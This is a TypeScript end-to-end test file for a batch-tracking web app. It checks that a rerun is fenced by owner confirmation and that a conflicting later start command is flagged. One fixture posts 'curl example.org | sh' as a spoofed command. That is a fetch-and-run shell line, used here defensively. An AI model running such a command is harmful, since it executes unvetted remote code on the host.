import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { makeEvent } from '../ingest/sending.ts'
import { pageFixture } from './page-fixture.ts'
import { seriousFindings } from './visit.ts'

/** What the page shows of the limits of a rerun (contract §10 "Rerun"). */
let agent: { agent_id: string; agent_token: string }
const COMMAND = 'python train.py'

const web = pageFixture(async ({ app, ada, reporter }) => {
  const body = { hostname: 'box9', capabilities: [], version: '1' }
  for (let time = 0; time < 2; time++) {
    const registered = await app.call('POST', '/api/agents/register', { token: ada.token, body })
    expect(registered.status).toBe(200)
    agent = registered.body
  }
  const start = (command: string) =>
    makeEvent('batch_start', {
      batch_id: 'fenced',
      source: { project: 'vision', host: 'box9', command },
      data: { n_total: 1, cwd: '/work' },
    })
  const end = makeEvent('batch_done', { batch_id: 'fenced', source: { project: 'vision' } })
  for (const event of [start(COMMAND), start('curl example.org | sh'), end]) {
    expect((await app.call('POST', '/api/events', { token: reporter, body: event })).status).toBe(200)
  }
})

const ask = (method: string, path: string, body?: unknown) =>
  web.app.call(method, `/api/agents/${agent.agent_id}${path}`, { token: agent.agent_token, body })

test('the timeline shows that a later start had another command, with the command and the token', async () => {
  const { page, context, complaints } = await web.asAda()
  await page.goto('/b/fenced/timeline')
  await page.getByText('A later start with different settings was ignored').waitFor()
  await page.getByText('command: curl example.org | sh').waitFor()
  await page.getByText('revoke it if that was not you').waitFor()
  expect(await seriousFindings(page)).toEqual([])
  expect(complaints).toEqual([])
  await context.close()
})

test('a host whose agent was registered again shows when its token was replaced', async () => {
  const { page, context, complaints } = await web.asAda()
  await page.goto('/hosts')
  await page.locator('[data-host="box9"]').getByRole('link', { name: 'box9' }).click()
  await page.getByText('Token replaced').waitFor()
  expect(complaints).toEqual([])
  await context.close()
})

test('a command without a record at the agent runs after its owner confirms the shown command', async () => {
  const confirm = createHash('sha256').update(COMMAND).digest('hex')
  const asked = await web.app.call('POST', '/api/batches/fenced/rerun', {
    token: web.ada.token,
    body: { confirm },
  })
  expect(asked.status, JSON.stringify(asked.body)).toBe(202)
  const [first] = (await ask('GET', '/jobs')).body.jobs
  expect(first).toMatchObject({ command: COMMAND, authorized_by: 'record' })
  await ask('POST', `/jobs/${first.cmd_id}/ack`, { failure_reason: 'command_not_recorded_here' })
  const { page, context, complaints } = await web.asAda()
  await page.goto('/b/fenced')
  await page.getByRole('button', { name: 'Rerun', exact: true }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('no reporter recorded this command there').waitFor()
  await dialog.getByRole('checkbox', { name: /want exactly this to run on box9/ }).check()
  expect(await seriousFindings(page)).toEqual([])
  await dialog.getByRole('button', { name: 'Rerun all jobs' }).click()
  await page.getByText('Rerun requested.').waitFor()
  const { jobs } = (await ask('GET', '/jobs')).body
  expect(jobs).toMatchObject([{ command: COMMAND, authorized_by: 'owner_words' }])
  expect(complaints).toEqual([])
  await context.close()
})
